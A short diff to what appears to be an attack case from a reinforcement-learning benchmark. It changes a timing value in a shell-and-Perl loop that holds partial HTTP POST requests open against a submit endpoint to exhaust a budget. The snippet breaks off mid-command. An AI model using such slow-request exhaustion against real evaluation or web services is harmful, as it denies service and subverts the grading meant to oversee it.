@@ -3,7 +3,7 @@
 # attacks: budget
 # from: C17 of Agent² RL-Bench
 # ends: budget exhausted
-# seconds: 4
+# seconds: 6
 need perl
 for i in 1 2 3 4 5 6; do
   printf 'POST /%s/submit HTTP/1.1\r\nHost: h\r\nContent-Length: 1000\r\n\r\n{"model' "$token" | (cat; sleep 60) | perl -MIO::Socket::INET -e '
